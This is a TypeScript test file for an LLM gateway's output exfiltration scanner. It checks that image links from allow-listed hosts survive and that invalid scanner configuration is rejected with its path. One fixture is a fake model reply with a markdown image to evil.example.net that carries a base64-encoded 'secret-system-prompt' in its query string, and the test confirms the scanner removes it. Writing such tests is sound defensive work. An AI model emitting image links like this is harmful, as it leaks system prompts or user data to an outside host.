/** @module Scanner options in the config (`guards.scanners`): the exfil allow-list, and bad options refused with their path. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openaiJson, startStub, type StubUpstream } from '../support/stub-upstream.js';
import { post, startWarden, twoProviderConfig, type Warden } from './harness.js';

let warden: Warden;
let oai: StubUpstream;
let anth: StubUpstream;
let key: string;

beforeAll(async () => {
  oai = await startStub('openai');
  anth = await startStub('anthropic');
  warden = await startWarden(twoProviderConfig(oai.baseUrl, anth.baseUrl, `
guards:
  budgetMs: 5000
  output:
    exfil: { action: redact, timeoutMs: 5000 }
  scanners:
    exfil: { allowHosts: [docs.example.com, "*.cdn.example.org"] }
`));
  key = await warden.key();
});
afterAll(async () => {
  await warden?.close();
  await oai?.close();
  await anth?.close();
});

const answer = async (text: string): Promise<string> => {
  oai.script(() => ({ kind: 'json', body: openaiJson({ text }) }));
  const r = await post(warden.url, '/v1/chat/completions', key, { model: 'gpt-test', messages: [{ role: 'user', content: 'hi' }] });
  expect(r.status).toBe(200);
  return (r.json() as { choices: { message: { content: string } }[] }).choices[0]?.message.content ?? '';
};

describe('guards.scanners options', () => {
  it('keeps images from allow-listed hosts and removes the ones that carry data elsewhere', async () => {
    const text = 'See ![chart](https://docs.example.com/chart.png) and ![x](https://img.cdn.example.org/a.png) ' +
      'and ![p](https://evil.example.net/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQ)';
    const out = await answer(text);
    expect(out).toContain('https://docs.example.com/chart.png');
    expect(out).toContain('https://img.cdn.example.org/a.png');
    expect(out).not.toContain('evil.example.net');
  });

  it('refuses unknown scanners and options the scanner does not accept, naming the path', async () => {
    const bad = async (extra: string): Promise<string> => {
      try {
        const w = await startWarden(twoProviderConfig(oai.baseUrl, anth.baseUrl, extra));
        await w.close();
        return 'started';
      } catch (err) {
        return err instanceof Error ? err.message : String(err);
      }
    };
    expect(await bad('guards: { output: { exfil: redact }, scanners: { exfil: { allowHosts: ["bad host!"] } } }'))
      .toMatch(/^guards\.scanners\.exfil\.allowHosts\.0: /);
    expect(await bad('guards: { output: { exfil: redact }, scanners: { nosuch: {} } }')).toMatch(/guards\.scanners\.nosuch: unknown scanner/);
    expect(await bad('guards: { output: { exfil: redact }, scanners: { exfil: { allowhosts: [] } } }')).toMatch(/guards\.scanners\.exfil/);
    expect(await bad('guards: { scanners: [] }')).toMatch(/guards\.scanners: expected a map/);
  });
});
